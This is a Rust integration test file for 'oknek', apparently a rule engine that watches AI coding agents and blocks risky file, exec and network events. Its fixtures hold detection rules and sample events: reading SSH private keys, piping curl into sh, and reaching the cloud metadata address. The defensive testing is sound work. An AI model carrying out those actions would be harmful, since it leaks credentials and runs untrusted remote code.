//! `oknek rules check|test|list` and `oknek simulate`, run as a user would.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A scratch directory removed when dropped.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str) -> Scratch {
        let dir = std::env::temp_dir().join(format!("oknek-cli-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("fixtures")).unwrap();
        Scratch(dir)
    }

    fn write(&self, name: &str, text: &str) -> &Scratch {
        std::fs::write(self.0.join(name), text).unwrap();
        self
    }

    fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn oknek(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_oknek"))
        .args(args)
        .output()
        .expect("oknek runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn code(output: &Output) -> i32 {
    output.status.code().expect("exited")
}

const RULES: &str = r#"oknek_rules: 1
lists:
  ssh_keys: [/home/*/.ssh/id_*]
rules:
  - id: R1.ssh
    title: Agent reads an SSH private key
    kind: open
    match:
      path: { glob: $ssh_keys }
      not: { path: { suffix: .pub } }
    action: block
    severity: critical
  - id: R2.curl
    title: Agent pipes curl into a shell
    kind: exec
    match: { argv: { regex: 'curl .*\| *sh' } }
    action: warn
  - id: R3.imds
    title: Cloud metadata service
    kind: connect
    match: { addr: 169.254.169.254/32, port: 80 }
    action: block
"#;

const FIXTURES: &str = r#"cases:
  - name: private key
    event:
      time: "2026-11-22T10:00:00Z"
      source: recorded
      process: { pid: 1, uid: 1000, exe: /usr/bin/cat, comm: cat, agent: aider }
      kind: open
      path: /home/dev/.ssh/id_ed25519
    expect: block
    fired: [R1.ssh]
  - name: public key
    event:
      time: "2026-11-22T10:00:00Z"
      source: recorded
      process: { pid: 1, uid: 1000, exe: /usr/bin/cat, comm: cat, agent: aider }
      kind: open
      path: /home/dev/.ssh/id_ed25519.pub
    expect: allow
    fired: []
"#;

fn rule_dir(name: &str) -> Scratch {
    let dir = Scratch::new(name);
    dir.write("10-rules.yaml", RULES);
    dir.write("fixtures/R1.yaml", FIXTURES);
    dir
}

#[test]
fn check_reports_ok_with_the_digest() {
    let dir = rule_dir("check-ok");
    let out = oknek(&["rules", "check", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.starts_with("ok: 3 rules in 1 file, digest sha256:"),
        "{stdout}"
    );
    assert_eq!(
        stdout.trim().len(),
        "ok: 3 rules in 1 file, digest sha256:".len() + 64
    );
}

#[test]
fn check_lists_every_error_with_position_and_hint() {
    let dir = Scratch::new("check-errors");
    dir.write("10-a.yaml", &RULES.replace("kind: exec", "kind: exce"));
    dir.write("20-b.yaml", "oknek_rules: 1\nrules:\n  - { id: R1.ssh, title: t, kind: open, action: warn, hold: true }\n");
    let out = oknek(&["rules", "check", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 1);
    let stderr = text(&out.stderr);
    let a = dir.path().join("10-a.yaml").display().to_string();
    let b = dir.path().join("20-b.yaml").display().to_string();
    assert!(
        stderr.contains(&format!(
            "{a}:15:11: error: unknown kind `exce`\n  hint: did you mean `exec`?"
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!("{b}:3:11: error: duplicate rule id `R1.ssh`")),
        "{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "{b}:3:61: error: `hold: true` on a rule whose action is not block"
        )),
        "{stderr}"
    );
    assert!(stderr.contains("oknek: error: 3 errors in"), "{stderr}");
    assert!(out.stdout.is_empty());
}

#[test]
fn check_of_a_missing_directory_fails_clearly() {
    let out = oknek(&["rules", "check", "/nonexistent/oknek-rules"]);
    assert_eq!(code(&out), 1);
    assert!(
        text(&out.stderr)
            .contains("/nonexistent/oknek-rules: error: cannot read the rules directory")
    );
}

#[test]
fn usage_errors_exit_2_and_help_teaches() {
    assert_eq!(code(&oknek(&["rules"])), 2);
    assert_eq!(code(&oknek(&["rules", "frobnicate"])), 2);
    assert_eq!(code(&oknek(&["rules", "check", "--bogus"])), 2);
    assert_eq!(code(&oknek(&["rules", "check", "a", "b"])), 2);
    assert_eq!(code(&oknek(&["simulate", "--rules", "x"])), 2);
    for args in [
        &["rules", "--help"][..],
        &["rules", "check", "--help"],
        &["rules", "test", "--help"],
        &["rules", "list", "--help"],
        &["simulate", "--help"],
    ] {
        let out = oknek(args);
        assert_eq!(code(&out), 0, "{args:?}");
        let help = text(&out.stdout);
        assert!(help.contains("Example"), "{args:?}: {help}");
        assert!(help.contains("Usage: oknek"), "{args:?}: {help}");
    }
}

#[test]
fn test_prints_a_table_and_passes() {
    let dir = rule_dir("test-pass");
    let out = oknek(&["rules", "test", dir.path().to_str().unwrap()]);
    let stdout = text(&out.stdout);
    assert_eq!(code(&out), 0, "{stdout}{}", text(&out.stderr));
    let header = stdout.lines().next().unwrap();
    for column in ["FILE", "CASE", "EXPECT", "GOT", "FIRED", "RESULT"] {
        assert!(header.contains(column), "{header}");
    }
    assert!(stdout.contains("R1.yaml  private key"), "{stdout}");
    assert!(stdout.contains("2 cases: 2 passed, 0 failed"), "{stdout}");
    assert!(
        stdout.contains("note: no case fires or names rules R2.curl, R3.imds"),
        "{stdout}"
    );
}

#[test]
fn test_fails_on_a_wrong_expectation_and_on_a_malformed_fixture() {
    let dir = rule_dir("test-fail");
    dir.write(
        "fixtures/R2.yaml",
        &FIXTURES
            .replace("expect: block", "expect: warn")
            .replace("name: private key", "name: wrong on purpose"),
    );
    dir.write(
        "fixtures/R3.yaml",
        "cases:\n  - name: x\n    expect: allow\n    evnt: {}\n",
    );
    let out = oknek(&["rules", "test", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 1);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("FAIL R2.yaml: wrong on purpose: expected warn, got block"),
        "{stdout}"
    );
    let r3 = dir.path().join("fixtures/R3.yaml").display().to_string();
    assert!(
        stdout.contains(&format!("{r3}:4:5: error: bad fixture:")),
        "{stdout}"
    );
    assert!(stdout.contains("unknown field `evnt`"), "{stdout}");
    assert!(
        stdout.contains("4 cases: 3 passed, 1 failed; 1 malformed fixture files"),
        "{stdout}"
    );
    // --failures leaves the passing rows out.
    let out = oknek(&["rules", "test", "--failures", dir.path().to_str().unwrap()]);
    let stdout = text(&out.stdout);
    assert!(!stdout.contains("  pass"), "{stdout}");
}

#[test]
fn test_without_fixtures_fails() {
    let dir = Scratch::new("test-none");
    dir.write("10-rules.yaml", RULES);
    let out = oknek(&["rules", "test", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 1);
    assert!(text(&out.stderr).contains("no fixture files"));
}

#[test]
fn list_shows_enforceability_and_json() {
    let dir = rule_dir("list");
    let out = oknek(&["rules", "list", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 0);
    let stdout = text(&out.stdout);
    let row = |id: &str| {
        stdout
            .lines()
            .find(|l| l.starts_with(id))
            .unwrap_or_else(|| panic!("no row {id}:\n{stdout}"))
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(row("R1.ssh"), "R1.ssh open block critical userspace: not");
    assert_eq!(row("R2.curl"), "R2.curl exec warn medium -");
    assert_eq!(row("R3.imds"), "R3.imds connect block medium kernel");

    let out = oknek(&["rules", "list", "--json", dir.path().to_str().unwrap()]);
    assert_eq!(code(&out), 0);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("valid JSON");
    let rules = json.as_array().unwrap();
    assert_eq!(rules.len(), 3);
    assert_eq!(rules[2]["id"], "R3.imds");
    assert_eq!(rules[2]["kernel"]["enforceability"]["tier"], "kernel");
    assert_eq!(rules[2]["kernel"]["entries"][0]["type"], "network");
    assert_eq!(
        rules[2]["kernel"]["entries"][0]["cidrs"][0],
        "169.254.169.254/32"
    );
    assert_eq!(rules[0]["kernel"]["enforceability"]["reasons"][0], "not");
    assert!(rules[1]["kernel"].is_null());
}

const EVENTS: &str = r#"{"time":"2026-11-22T10:00:00Z","source":"recorded","process":{"pid":1,"uid":1000,"exe":"/usr/bin/cat","agent":"aider"},"kind":"open","path":"/home/dev/.ssh/id_rsa"}
{"time":"2026-11-22T10:00:01Z","source":"recorded","process":{"pid":1},"kind":"open"}

# a comment
{"time":"2026-11-22T10:00:02Z","source":"recorded","process":{"pid":2,"uid":1000,"exe":"/bin/sh","agent":"aider"},"kind":"exec","path":"/bin/sh","argv":["sh","-c","curl x | sh"]}
{"time":"2026-11-22T10:00:03Z","source":"recorded","process":{"pid":3,"uid":1000,"exe":"/bin/ls"},"kind":"exec","path":"/bin/ls","argv":["ls"]}
"#;

#[test]
fn simulate_replays_events_and_reports_bad_lines() {
    let dir = rule_dir("simulate");
    dir.write("events.jsonl", EVENTS);
    let events = dir.path().join("events.jsonl");
    let events = events.to_str().unwrap();
    let rules = dir.path().to_str().unwrap();
    let out = oknek(&["simulate", "--rules", rules, "--events", events]);
    assert_eq!(code(&out), 1, "a bad line makes the replay fail");
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(&format!("{events}:2: error: not a valid event:")),
        "{stderr}"
    );
    assert!(
        stderr.contains("3 events: 1 allowed, 1 warned, 1 blocked; 1 bad lines skipped"),
        "{stderr}"
    );
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{stdout}");
    assert!(
        lines[0].contains("open") && lines[0].contains("block") && lines[0].contains("R1.ssh"),
        "{stdout}"
    );
    assert!(
        lines[1].trim_start().starts_with("5 ") && lines[1].contains("warn   R2.curl"),
        "{stdout}"
    );
    assert!(
        lines[2].contains("allow") && lines[2].contains(" - "),
        "{stdout}"
    );

    let out = oknek(&["simulate", "--rules", rules, "--events", events, "--json"]);
    let decisions: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(decisions.len(), 3);
    assert_eq!(decisions[0]["line"], 1);
    assert_eq!(decisions[0]["verdict"], "block");
    assert_eq!(decisions[0]["deciding"], "R1.ssh");
    assert_eq!(
        decisions[0]["fired"][0]["capture"],
        serde_json::json!(["path", "flags", "mode"])
    );
    assert_eq!(decisions[1]["fired"][0]["rule"], "R2.curl");
    assert_eq!(decisions[2]["agent"], serde_json::Value::Null);
    assert_eq!(decisions[2]["fired"], serde_json::json!([]));
}

#[test]
fn simulate_reads_standard_input() {
    let dir = rule_dir("simulate-stdin");
    let mut child = Command::new(env!("CARGO_BIN_EXE_oknek"))
        .args([
            "simulate",
            "--rules",
            dir.path().to_str().unwrap(),
            "--events",
            "-",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(EVENTS.lines().next().unwrap().as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("R1.ssh"));
}

/// The rule pack shipped in rules/ must load and pass its own fixtures.
#[test]
fn the_shipped_pack_loads_and_passes_its_fixtures() {
    let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let pack = pack.to_str().unwrap();
    let out = oknek(&["rules", "check", pack]);
    assert_eq!(code(&out), 0, "{}", text(&out.stderr));
    let out = oknek(&["rules", "test", "--failures", pack]);
    assert_eq!(code(&out), 0, "{}{}", text(&out.stdout), text(&out.stderr));
}
